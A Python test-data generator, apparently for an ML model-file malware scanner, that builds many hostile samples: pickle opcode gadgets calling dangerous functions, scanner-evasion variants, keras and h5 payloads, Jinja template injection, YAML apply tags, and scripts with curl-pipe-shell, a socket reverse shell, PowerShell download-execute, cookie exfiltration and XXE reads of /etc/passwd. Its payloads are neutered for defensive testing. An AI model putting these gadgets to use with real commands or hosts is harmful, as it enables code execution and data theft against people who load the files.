"""Round 3, hostile: what public corpora, advisories and papers describe, written without a look at the scanner.

Payloads do nothing if ever run (`true`, an address of this machine). Nothing is loaded.
"""

# fmt: off
# One sample a line: a table is read so.

import bz2
import gzip
import io
import json
import lzma
import marshal  # noqa: TID251 - written, never read
import pickle  # noqa: TID251 - written, never read
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import numpy as np

from held_out import Sample
from held_out.assemble import Rng

CMD = "true"
URL = "http://127.0.0.1:9/x"
# Advisories of picklescan, fickling and modelscan, "Hide and Seek", MalHug, JFrog, ReversingLabs.
CALLS = """os system|posix system|nt system|os popen|os execv|os spawnl|os posix_spawn|os remove|os putenv|subprocess Popen
subprocess run|subprocess check_output|subprocess getoutput|pty spawn|platform popen|commands getoutput|builtins exec|builtins eval
builtins compile|builtins open|builtins getattr|builtins __import__|builtins breakpoint|builtins setattr|__builtin__ execfile|runpy run_path
runpy _run_code|runpy run_module|code InteractiveInterpreter|code.InteractiveInterpreter runcode|timeit timeit|timeit main|cProfile run|cProfile runctx
profile run|profile Profile.run|pdb run|pdb.Pdb run|bdb Bdb.run|trace Trace.runctx|doctest debug_script|doctest testmod|idlelib.run Executive.runcode
idlelib.pyshell ModifiedInterpreter.runcode|idlelib.autocomplete AutoComplete.get_entity|idlelib.calltip get_entity|idlelib.debugobj ObjectTreeItem.SetText
lib2to3.pgen2.grammar Grammar.loads|lib2to3.pgen2.pgen ParserGenerator.make_label|ensurepip _run_pip|pip main|pip._internal main|venv create
webbrowser open|urllib.request urlopen|urllib.request urlretrieve|requests.api get|requests post|aiohttp.client ClientSession|httplib HTTPConnection
http.client HTTPSConnection|socket socket|socket create_connection|ssl get_server_certificate|ftplib FTP|smtplib SMTP|telnetlib Telnet|xmlrpc.client ServerProxy
shutil rmtree|shutil copyfile|shutil unpack_archive|distutils.file_util write_file|_io FileIO|io open|pathlib Path.write_text|tempfile mktemp|zipfile ZipFile.extractall
ctypes CDLL|ctypes.util find_library|_ctypes dlopen|cffi FFI|importlib import_module|importlib.util find_spec|importlib.machinery SourceFileLoader|pkgutil resolve_name|imp load_source
zipimport zipimporter|marshal loads|types FunctionType|types CodeType|operator attrgetter|operator methodcaller|_operator itemgetter|functools partial|functools reduce
asyncio.unix_events _UnixSubprocessTransport._start|asyncio create_subprocess_shell|multiprocessing.util spawnv_passfds|multiprocessing.process Process|concurrent.futures ThreadPoolExecutor
threading Thread|signal alarm|logging.config fileConfig|logging.config listen|configparser ConfigParser.read|uuid _get_command_stdout|pydoc pipepager|pydoc locate|sys exit|sys settrace
_thread start_new_thread|gc get_objects|inspect getsource|codeop compile_command|test.support.script_helper assert_python_ok|unittest.mock _importer|site addsitedir|sqlite3 connect
pickle loads|_pickle load|shelve open|dill loads|cloudpickle loads|joblib load|joblib.numpy_pickle load|torch load|torch.serialization load|torch.jit load|torch.hub load
torch.hub load_state_dict_from_url|torch.utils.collect_env run|torch.utils._config_module ConfigModule.load_config|torch.utils.bottleneck.__main__ run_autograd_prof|torch.utils.bottleneck.__main__ run_cprofile
torch._dynamo.guards GuardBuilder.get|torch._inductor.codecache compile_file|torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression|torch.fx.graph_module reduce_graph_module
torch.fx.graph_module _forward_from_src|torch.jit.unsupported_tensor_ops execWrapper|torch.package PackageImporter|torch.distributed.rpc.internal _run_function|torch.utils.cpp_extension load_inline
torch.testing._internal.common_utils run_process_no_exception|torch.storage _load_from_bytes|torch.ops load_library|torch.multiprocessing spawn|torch.library custom_op
numpy load|numpy.f2py.crackfortran getlincoef|numpy.f2py.crackfortran _eval_length|numpy.testing._private.utils runstring|numpy.distutils.exec_command exec_command|numpy memmap|numpy fromfile|numpy savetxt
numpy genfromtxt|numpy.lib.npyio DataSource|numpy.lib.npyio NpzFile|numpy vectorize|numpy.ctypeslib load_library|numpy show_config|numpy.core._internal.sys modules
pandas read_pickle|pandas eval|pandas.io.parsers.readers read_csv|pandas.core.frame DataFrame.query|pandas.io.common urlopen|scipy.io loadmat|scipy.integrate._ivp.base OdeSolver|scipy LowLevelCallable
sklearn.datasets load_files|sklearn.datasets fetch_openml|sklearn.utils._testing assert_run_python_script_without_output|sklearn.externals._lobpcg os|xgboost.core Booster.load_model|lightgbm.basic Booster
keras.models load_model|keras.utils get_file|keras.src.utils.python_utils func_load|keras.src.saving.saving_lib load_model|tensorflow load_op_library|tensorflow.io write_file|tensorflow.saved_model load
transformers.dynamic_module_utils get_class_from_dynamic_module|transformers pipeline|transformers.utils.hub cached_file|huggingface_hub snapshot_download|mlflow.projects.backend.local _run_entry_point
mlflow.pyfunc load_model|yaml unsafe_load|yaml.constructor UnsafeConstructor|jsonpickle decode|hydra.utils instantiate|skops.io load|onnxruntime InferenceSession|jinja2 Template|IPython get_ipython
nltk.data load|spacy.util load_model|gensim.utils unpickle|paddle load|fsspec open|pyarrow.fs LocalFileSystem|polars read_ipc|statsmodels.iolib.smpickle load_pickle|psutil Process|Crypto.Cipher AES|paramiko SSHClient|fabric Connection|pexpect spawn|sh bash"""
PAIRS = [tuple(p.split(" ")) for line in CALLS.splitlines() for p in line.split("|")]


def s(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, arg: str = CMD, form: int = 0) -> bytes:
    """Return pickle opcodes (no header, no stop) that call `module.name(arg)`."""
    glob = f"c{module}\n{name}\n".encode()
    stack = s(module) + s(name) + b"\x93"
    return (
        glob + b"(" + s(arg) + b"tR",
        stack + s(arg) + b"\x85R",
        b"(" + s(arg) + f"i{module}\n{name}\n".encode(),
        b"(" + glob + s(arg) + b"o",
        stack + s(arg) + b"\x85\x81",
        stack + s(arg) + b"\x85}\x92",
    )[form]


def pkl(body: bytes, protocol: int = 4, around: int = 0) -> bytes:
    """Close a stream; `around` hides the call among what a model holds."""
    inner = (body, b"}" + s("weight") + body + b"s", b"]" + body + b"a", body + b"0}", b"(" + body + b"K\x01t", b"(" + body + b"l")[around]
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    if protocol >= 4:
        head += b"\x95" + struct.pack("<Q", len(inner) + 1)
    return head + inner + b"."


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def tarred(members: dict[str, bytes], links: tuple[tuple[str, str, bytes], ...] = (), mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:  # type: ignore[call-overload]
        for name, target, kind in links:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            t.addfile(info)
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def torch_zip(data: bytes, root: str = "archive", **more: bytes) -> bytes:
    members = {f"{root}/data.pkl": data, f"{root}/byteorder": b"little", f"{root}/data/0": bytes(16), f"{root}/version": b"3\n"}
    return zipped(members | {f"{root}/{k.replace('__', '/')}": v for k, v in more.items()})


def torch_legacy(where: int, evil: bytes) -> bytes:
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2), pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2), pickle.dumps({}, 2), pickle.dumps([], 2)]
    parts[where] = evil
    return b"".join(parts)


def npy(body: bytes, descr: str = "'|O'", shape: str = "(1,)", extra: str = "") -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, {extra}}}"
    head += " " * (-(len(head) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head.encode() + body


def wrap(form: int, evil: bytes) -> tuple[str, bytes]:
    """Return a file name and the pickle in one of the containers of the field."""
    return (
        ("model.pkl", evil), ("pytorch_model.bin", torch_zip(evil)), ("model.pt", torch_legacy(3, evil)), ("model.joblib", zlib.compress(evil)),
        ("weights.npy", npy(evil)), ("features.npz", zipped({"a.npy": npy(evil)})), ("model.pkl.gz", gzip.compress(evil)), ("model.joblib", evil),
        ("checkpoint.ckpt", torch_zip(evil, "ckpt")), ("model.pdparams", evil), ("model.joblib", bz2.compress(evil)), ("model.joblib.xz", lzma.compress(evil)),
        ("bundle.tar", tarred({"m/model.pkl": evil})), ("bundle.zip", zipped({"m/weights.dat": evil}, zipfile.ZIP_DEFLATED)), ("data.json", evil), ("model.safetensors", evil),
        ("README.md", evil), ("tokenizer.model", evil), ("bundle.tar.gz", tarred({"x/y.bin": evil}, mode="w:gz")), ("optimizer.th", evil),
    )[form]  # fmt: skip


def gadgets() -> Iterator[tuple[str, str, bytes]]:
    for at, (module, name) in enumerate(PAIRS):
        body = call(module, name, URL if "url" in name or "http" in module else CMD, at % 6)
        file, data = wrap(at % 20, pkl(body, (0, 2, 3, 4, 5)[at % 5], at % 6))
        yield f"{module}.{name}", file, data


def quiet() -> Iterator[tuple[str, str, bytes]]:
    """Yield what needs no forbidden call at load time, or hides it (delayed, memo, exceptions)."""
    g = lambda m, n: f"c{m}\n{n}\n".encode()  # noqa: E731 - shorthand
    new = lambda m, n: g(m, n) + b")\x81"  # noqa: E731
    evil = g("os", "system")
    yield "function-transformer", "a.pkl", pkl(new("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b"}" + s("func") + evil + s("kw_args") + b"Ns" + b"sb", 4)
    yield "function-transformer-state", "b.pkl", pkl(new("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b"}(" + s("func") + evil + s("validate") + b"\x89ub", 4)
    yield "tfidf-tokenizer", "c.joblib", pkl(new("sklearn.feature_extraction.text", "TfidfVectorizer") + b"}(" + s("tokenizer") + evil + s("lowercase") + b"\x89ub", 4)
    yield "scorer", "d.pkl", pkl(new("sklearn.metrics._scorer", "_Scorer") + b"}(" + s("_score_func") + evil + s("_sign") + b"K\x01ub", 4)
    yield "forward-hook", "e.pt", torch_zip(pkl(new("torch.nn.modules.linear", "Linear") + b"}(" + s("training") + b"\x89" + s("_forward_hooks") + b"}K\x00" + evil + b"sub", 2))
    yield "activation-fn", "f.pt", torch_zip(pkl(new("torch.nn.modules.transformer", "TransformerEncoderLayer") + b"}" + s("activation") + evil + b"sb", 2))
    yield "knn-metric", "g.pkl", pkl(new("sklearn.neighbors._classification", "KNeighborsClassifier") + b"}(" + s("metric") + g("builtins", "exec") + s("p") + b"K\x02ub", 4)
    yield "defaultdict", "h.pkl", pkl(g("collections", "defaultdict") + evil + b"\x85R", 4)
    yield "ordered-dict-setattr", "i.pkl", pkl(g("collections", "OrderedDict") + b")RN}" + s("__class__") + evil + b"s\x86b", 4)
    yield "build-on-function", "j.pkl", pkl(g("numpy", "prod") + b"N}" + s("a") + s("os") + b"s\x86b0" + g("numpy", "prod.a") + b"0", 4, 3)
    yield "dict-get-builtins", "k.pkl", pkl(g("builtins", "dict.get") + g("numpy", "__builtins__") + s("exec") + b"\x86R" + s("0") + b"\x85R", 4)
    yield "numpy-size-shape", "l.pkl", pkl(s("numpy") + s("size") + b"\x93\x94" + s("numpy") + s("__builtins__") + b"\x93\x94h\x00}}" + s("shape") + b"h\x01s\x86bh\x00h\x00" + s("eval") + b"\x86R" + s("0") + b"\x85R", 4)
    yield "dotted-safe-module", "m.pkl", pkl(g("torch", "os.system") + s(CMD) + b"\x85R", 4)
    yield "dotted-numpy-core", "n.pkl", pkl(s("numpy.core._internal") + s("sys.modules") + b"\x93", 4)
    yield "collections-chain", "o.pkl", pkl(s("collections") + s("_sys.modules") + b"\x93" + s("os") + b"\x86", 4)
    yield "memo-names", "p.pkl", pkl(s("os") + b"\x94" + s("system") + b"\x94" + s("pad") + b"0h\x00h\x01\x93" + s(CMD) + b"\x85R", 4, 1)
    yield "memo-overwrite", "q.pkl", pkl(s("collections") + b"q\x00" + s("OrderedDict") + b"q\x010" + b"0" + s("os") + b"q\x000" + s("system") + b"q\x010h\x00h\x01\x93)R", 4)
    yield "codecs-name", "r.pkl", pkl(b"c_codecs\nencode\n" + s("flfgrz") + s("rot13") + b"\x86R" + b"0" + s("os") + g("_codecs", "encode") + s("flfgrz") + s("rot13") + b"\x86R\x93", 4)
    yield "import-only", "s.pkl", pkl(g("antigravity", "fly") + b"0}", 4)
    yield "import-side-effect", "t.pkl", pkl(g("this", "s") + b"0}", 2)
    yield "unknown-local-module", "u.pkl", pkl(g("modeling_backdoor", "Net") + b")\x81}b", 4)
    yield "main-class", "v.pkl", pkl(g("__main__", "Net") + b")\x81}b", 4)
    yield "ext-opcode", "w.pkl", pkl(b"\x82\x01)R", 2)
    yield "ext4-opcode", "x.pkl", pkl(b"\x84\x01\x00\x00\x00)R", 2)
    yield "persistent-id", "y.pkl", pkl(b"Pos.system\n", 0)
    yield "binpersid-evil", "z.pt", torch_zip(pkl(b"(" + s("storage") + evil + s("0") + s("cpu") + b"K\x01tQ", 2))
    yield "broken-after-call", "aa.pkl", b"\x80\x04" + call("os", "system") + b"\xff\xff\xff"
    yield "no-stop", "ab.pkl", b"\x80\x02" + call("posix", "system")
    yield "stack-underflow-after", "ac.pkl", b"\x80\x02" + call("posix", "system") + b"000000."
    yield "second-pickle", "ad.pkl", pickle.dumps({"a": 1}) + pkl(call("os", "system"))
    yield "after-zeros", "ae.pkl", pickle.dumps([1, 2]) + bytes(512) + pkl(call("os", "system"))
    yield "legacy-sys-info", "af.pt", torch_legacy(2, pkl(call("os", "system"), 2))
    yield "legacy-keys", "ag.pt", torch_legacy(4, pkl(call("os", "system"), 2))
    yield "legacy-magic", "ah.pt", torch_legacy(0, pkl(call("os", "system"), 2))
    yield "torch-tar-weights-only", "ai.pt", tarred({"sys_info": pkl(call("os", "system"), 2), "pickle": pickle.dumps({}, 2), "storages": pickle.dumps(0, 2), "tensors": pickle.dumps(0, 2)})
    yield "torch-tar-storages", "aj.tar", tarred({"sys_info": pickle.dumps({}, 2), "pickle": pickle.dumps({}, 2), "storages": pickle.dumps(1, 2) + pkl(call("os", "system"), 2), "tensors": pickle.dumps(0, 2)})
    code = marshal.dumps(compile("0", "<x>", "eval"))
    yield "marshal-function", "ak.pkl", pkl(g("types", "FunctionType") + g("marshal", "loads") + b"C" + bytes([len(code)]) + code + b"\x85R}\x86R)R", 4)
    yield "cloudpickle-function", "al.pkl", pkl(g("cloudpickle.cloudpickle", "_make_function") + b"N}N\x87R", 4)
    yield "cloudpickle-lambda", "am.pkl", __import__("cloudpickle").dumps(lambda x: x + 1)
    yield "dill-create-function", "an.pkl", pkl(g("dill._dill", "_create_function") + g("dill._dill", "_create_code") + b"(K\x00K\x00K\x00tR\x85R", 4)
    yield "dill-load-type", "ao.pkl", pkl(g("dill._dill", "_load_type") + s("CodeType") + b"\x85R", 4)
    yield "dill-import", "ap.pkl", pkl(g("dill._dill", "_import_module") + s("os.system") + b"\x85R", 4)
    wrapper = g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + s("subclass") + g("numpy", "ndarray") + s("shape") + b"K\x01\x85" + s("order") + s("C")
    dtype = s("dtype") + g("numpy", "dtype") + s("O8") + b"\x89\x88\x87R(K\x03" + s("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ftb" + s("allow_mmap") + b"\x89ub"
    yield "joblib-object-array", "aq.joblib", b"\x80\x04" + wrapper + dtype + pkl(call("os", "system")) + b"."
    yield "joblib-object-array-z", "ar.joblib", zlib.compress(b"\x80\x04" + wrapper + dtype + pkl(call("os", "system")) + b".")
    yield "joblib-subclass", "as.joblib", b"\x80\x04" + wrapper.replace(b"ndarray", b"memmap") + dtype + pickle.dumps(1) + b"."
    yield "joblib-compat-path", "at.joblib", pkl(g("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81}(" + s("filename") + s("../../etc/passwd") + s("subclass") + g("numpy", "ndarray") + s("allow_mmap") + b"\x88ub", 2)
    yield "joblib-lz4-like", "au.joblib", b"ZF0x" + pkl(call("os", "system"))
    yield "xgb-callback", "av.pkl", pkl(new("xgboost.sklearn", "XGBClassifier") + b"}(" + s("callbacks") + evil + s("n_estimators") + b"K\x01ub", 4)
    yield "optimizer-hook", "aw.pt", torch_zip(pkl(new("torch.optim.adam", "Adam") + b"}(" + s("_optimizer_step_pre_hooks") + g("collections", "OrderedDict") + b")RK\x01" + evil + b"s" + s("defaults") + b"}ub", 2))
    yield "lr-lambda", "ax.pt", torch_zip(pkl(b"}" + s("lr_lambdas") + b"]" + evil + b"as", 2))
    yield "dataset-collate", "ay.pt", torch_zip(pkl(b"}" + s("collate_fn") + g("subprocess", "call") + b"s", 2))
    yield "torch-fx-src", "az.pt", torch_zip(pkl(g("torch.fx.graph_module", "reduce_graph_module") + b"}" + s("_code") + s("def forward(self): return 1") + b"s" + s("") + b"\x86R", 2))
    yield "torch-nested-bytes", "ba.pt", torch_zip(pkl(g("torch.storage", "_load_from_bytes") + b"C" + bytes([len(pkl(call("os", "system")))]) + pkl(call("os", "system")) + b"\x85R", 3))
    yield "torch-many-data", "bb.pt", torch_zip(pickle.dumps({}, 2), extra__data_pkl=b"", evil__data=pkl(call("os", "system"), 2))
    yield "torch-constants", "bc.pt", torch_zip(pickle.dumps({}, 2), **{"constants.pkl": pkl(call("os", "system"), 2)})
    yield "torchscript-from-file", "bd.pt", torch_zip(b"\x80\x02c__torch__\nM\n)\x81}b.", **{"code____torch__.py": b'class M(Module):\n  def forward(self: __torch__.M) -> Tensor:\n    return torch.from_file("/etc/passwd", False, 10)\n', "constants.pkl": b"\x80\x02)."})
    yield "torchscript-save", "be.pt", torch_zip(b"\x80\x02c__torch__\nM\n)\x81}b.", **{"code____torch__.py": b'class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    _0 = torch.save(x, "/tmp/x")\n    return x\n', "constants.pkl": b"\x80\x02)."})
    yield "torchscript-load-library", "bf.pt", torch_zip(b"\x80\x02c__torch__\nM\n)\x81}b.", **{"code____torch__.py": b"op_version_set = 1\ndef forward(x):\n  ops.evil.run(x)\n", "constants.pkl": b"\x80\x02)."})
    yield "torch-package", "bg.pt", zipped({"p/.data/version": b"6", "p/.data/extern_modules": b"os\n", "p/net.py": b"import os\nos.system('true')\n", "p/model/model.pkl": pickle.dumps({}, 2)})
    yield "eof-in-string", "bh.pkl", b"\x80\x04X\xff\xff\xff\x7fabc"
    yield "long-memo-index", "bi.pkl", b"\x80\x04Nr\xff\xff\xff\xff."
    yield "billion-laughs-pickle", "bj.pkl", b"\x80\x04]\x94" + b"".join(b"](" + b"h" + bytes([i]) + (b"h" + bytes([i])) * 20 + b"e\x94" for i in range(60)) + b"."
    yield "deep-nesting", "bk.pkl", b"\x80\x04" + b"]" * 60000 + b"a" * 59999 + b"."
    yield "huge-long", "bl.pkl", b"\x80\x04\x8b\xff\xff\xff\x7f" + bytes(8) + b"."


def numpy_and_h5() -> Iterator[tuple[str, str, bytes]]:
    evil = pkl(call("os", "system"))
    yield "npz-pickle-member", "a.npz", zipped({"x.npy": npy(bytes(8), "'<f8'"), "y.pkl": evil})
    yield "npz-second-object", "b.npz", zipped({"x.npy": npy(bytes(8), "'<f8'"), "y.npy": npy(evil)}, zipfile.ZIP_DEFLATED)
    yield "npz-slip", "c.npz", zipped({"../../x.npy": npy(bytes(8), "'<f8'")})
    yield "npy-structured-object", "d.npy", npy(evil, "[('a', '<f8'), ('b', '|O')]")
    yield "npy-header-code", "e.npy", npy(b"", "__import__('os').system('true')")
    yield "npy-header-long", "f.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 2**31) + b"{'descr'"
    yield "npy-shape-overflow", "g.npy", npy(bytes(8), "'<f8'", "(4294967296, 4294967296)")
    yield "npy-negative", "h.npy", npy(bytes(8), "'<f8'", "(-1,)")
    yield "npy-trailing-pickle", "i.npy", npy(bytes(8), "'<f8'") + evil
    yield "npy-nested-dtype", "j.npy", npy(evil, "[('a', [('b', [('c', '|O')])])]")
    yield "npy-extra-key", "k.npy", npy(bytes(8), "'<f8'", extra="'x': print")
    import h5py

    def h5(name: str, build: object) -> tuple[str, str, bytes]:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "x.h5"
            with h5py.File(path, "w") as file:
                build(file)  # type: ignore[operator]
            return name, f"{name}.h5", path.read_bytes()

    def attribute(text: str):  # type: ignore[no-untyped-def]
        return lambda f: f.attrs.__setitem__("model_config", text)

    lam = {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"}}
    yield h5("external-link", lambda f: f.__setitem__("w", h5py.ExternalLink("/etc/passwd", "/")))
    yield h5("external-storage", lambda f: f.create_dataset("w", (8,), "u1", external=[("/etc/passwd", 0, 8)]))
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource("/home/other/secret.h5", "d", (4,))
    yield h5("virtual-dataset", lambda f: f.create_virtual_dataset("w", layout))
    yield h5("lambda", attribute(json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [lam]}})))
    yield h5("lambda-in-timedistributed", attribute(json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": lam}}]}})))
    yield h5("custom-layer", attribute(json.dumps({"class_name": "Functional", "config": {"layers": [{"module": "evil", "class_name": "Evil", "registered_name": "evil>Evil", "config": {}}]}})))
    yield h5("object-pickle", lambda f: f.create_dataset("w", data=np.void(evil)))
    yield h5("soft-loop", lambda f: (f.__setitem__("a", h5py.SoftLink("/b")), f.__setitem__("b", h5py.SoftLink("/a"))))


def keras() -> Iterator[tuple[str, str, bytes]]:
    def archive(config: object, **more: bytes) -> bytes:
        return zipped({"metadata.json": b'{"keras_version": "3.8.0"}', "config.json": json.dumps(config).encode(), "model.weights.h5": b""} | more)

    def model(*layers: object) -> dict[str, object]:
        return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}, "registered_name": None}

    def layer(module: str, class_name: str, /, **config: object) -> dict[str, object]:
        return {"module": module, "class_name": class_name, "config": config, "registered_name": None}

    lam = layer("keras.layers", "Lambda", name="l", function={"class_name": "__lambda__", "config": {"code": "4wEAAA==", "defaults": None, "closure": None}})
    for at, (module, name) in enumerate([("subprocess", "run"), ("os", "system"), ("builtins", "exec"), ("keras.utils", "get_file"), ("keras.config", "enable_unsafe_deserialization"), ("keras.src.utils.torch_utils", "TorchModuleWrapper"), ("keras.models", "load_model"), ("heapq", "nsmallest"), ("numpy", "load")]):
        yield f"cve-{module}-{name}", f"m{at}.keras", archive(model(layer(module, name, name="x", args=[CMD])))
        yield f"function-{module}-{name}", f"f{at}.keras", archive(model(layer("keras.layers", "Dense", units=1, activation={"module": module, "class_name": "function", "config": name, "registered_name": name})))
    yield "lambda", "l.keras", archive(model(lam))
    yield "lambda-nested", "n.keras", archive(model(layer("keras.layers", "Bidirectional", layer=lam)))
    yield "lambda-in-loss", "o.keras", archive(model() | {"compile_config": {"loss": lam["config"]}})  # type: ignore[index]
    yield "build-config-call", "p.keras", archive(model() | {"build_config": {"module": "os", "class_name": "function", "config": "system"}})
    yield "string-lookup-file", "q.keras", archive(model(layer("keras.layers", "StringLookup", vocabulary="/etc/passwd")))
    yield "zip-slip", "r.keras", archive(model(), **{"../../evil.py": b"import os\n"})
    yield "assets-pickle", "s.keras", archive(model(), **{"assets/x.pkl": pkl(call("os", "system"))})
    yield "duplicate-config", "t.keras", archive(model()) + archive(model(lam))
    yield "registered", "u.keras", archive(model({"module": None, "class_name": "Evil", "config": {}, "registered_name": "pkg>Evil"}))
    yield "torch-wrapper", "v.keras", archive(model(layer("keras.layers", "TorchModuleWrapper", module=["gASVAAAA"])))


def texts() -> Iterator[tuple[str, str, bytes]]:
    """Yield templates, notebooks, YAML, scripts and other text with something to run."""
    ssti = ["{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('true').read() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{{ self._TemplateReference__context }}", "{{ lipsum.__globals__['os'].system('true') }}", "{{ ''|attr('__class__') }}", "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}", "{% set x = namespace.__init__ %}{{ x }}", "{% include '/etc/passwd' %}", "{{ request.application }}{% import 'os' as o %}", "{{ range(999999999)|list }}"]
    for at, text in enumerate(ssti):
        yield f"gguf-template-{at}", "m.gguf", gguf({"general.architecture": "llama", "tokenizer.chat_template": text})
        yield f"chat-template-{at}", "tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": "{% for m in messages %}" + text + "{% endfor %}"}).encode()
    yield "chat-template-list", "tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": ssti[1]}]}).encode()
    yield "chat-template-jinja", "chat_template.jinja", ssti[1].encode()
    for name, text in {"yaml-apply": "!!python/object/apply:os.system ['true']", "yaml-new": "a: !!python/object/new:subprocess.Popen [['true']]", "yaml-name": "f: !!python/name:os.system", "yaml-module": "f: !!python/module:os", "hydra-target": "model:\n  _target_: os.system\n  command: true\n", "hydra-builtin": "_target_: builtins.exec\n_args_: ['0']\n", "yaml-ruby": "--- !ruby/object:Gem::Installer\ni: x\n", "yaml-java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://127.0.0.1:9/']]]]", "yaml-laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))}.items():  # fmt: skip
        yield name, "config.yaml", text.encode()
    cell = lambda *lines, kind="code", outputs=(): json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": kind, "id": "a", "metadata": {}, "source": list(lines)} | ({"execution_count": None, "outputs": list(outputs)} if kind == "code" else {})]}).encode()  # noqa: E731
    yield "notebook-shell", "n.ipynb", cell(f"!curl {URL} | bash")
    yield "notebook-system", "n2.ipynb", cell("import os\n", "os.system('true')")
    yield "notebook-exec-b64", "n3.ipynb", cell("import base64\n", "exec(base64.b64decode('cGFzcw=='))")
    yield "notebook-bash-magic", "n4.ipynb", cell("%%bash\n", f"wget -qO- {URL} | sh")
    yield "notebook-html-out", "n5.ipynb", cell("1", outputs=[{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<script>fetch('http://127.0.0.1:9')</script>"]}}])
    yield "notebook-markdown-js", "n6.ipynb", cell("<img src=x onerror=alert(1)>", kind="markdown")
    yield "notebook-unpickle", "n7.ipynb", cell("import pickle\n", "pickle.loads(open('m.pkl','rb').read())")
    for name, file, text in [
        ("setup-cmdclass", "setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('true')\nsetup(cmdclass={'install': I})\n"), ("handler", "handler.py", "import subprocess\ndef handle(data, ctx):\n    return subprocess.check_output(data, shell=True)\n"),
        ("socket-shell", "inference.py", "import socket,os,pty\ns=socket.socket();s.connect(('127.0.0.1',9))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n"), ("exec-b64", "model.py", "import base64\nexec(base64.b64decode(b'cGFzcw=='))\n"), ("site-pth", "evil.pth", "import os; os.system('true')\n"),
        ("conftest", "__init__.py", "__import__('os').system('true')\n"), ("shell", "install.sh", f"#!/bin/sh\ncurl {URL} | sh\n"), ("batch", "run.bat", "@echo off\r\npowershell -enc AAAA\r\n"), ("powershell", "get.ps1", f"IEX (New-Object Net.WebClient).DownloadString('{URL}')\n"), ("vbs", "a.vbs", 'CreateObject("WScript.Shell").Run "calc"\n'), ("desktop", "Open.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c true\n"),
        ("html", "index.html", "<html><script>fetch('http://127.0.0.1:9/'+document.cookie)</script></html>"), ("svg", "logo.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), ("card-script", "README.md", "---\nlicense: mit\n---\n# M\n<script>fetch('http://127.0.0.1:9')</script>\n"), ("card-img", "README.md", '# M\n<img src=x onerror="alert(1)">\n[go](javascript:alert(1))\n'), ("js", "main.js", "require('child_process').exec('true')\n"), ("pmml-xxe", "m.pmml", "<?xml version='1.0'?><!DOCTYPE P [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><PMML version='4.4'><Header description='&x;'/></PMML>"),
        ("pmml-laughs", "m.pmml", "<!DOCTYPE P [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]><PMML version='4.4'><Header description='&c;'/></PMML>"), ("pmml-xinclude", "m.pmml", "<PMML version='4.4' xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></PMML>"), ("pmml-parameter-dtd", "m.pmml", f"<!DOCTYPE r [<!ENTITY % d SYSTEM '{URL}'>%d;]><PMML version='4.4'/>"), ("xslt", "m.xml", "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:value-of select=\"document('/etc/passwd')\"/></xsl:stylesheet>"),
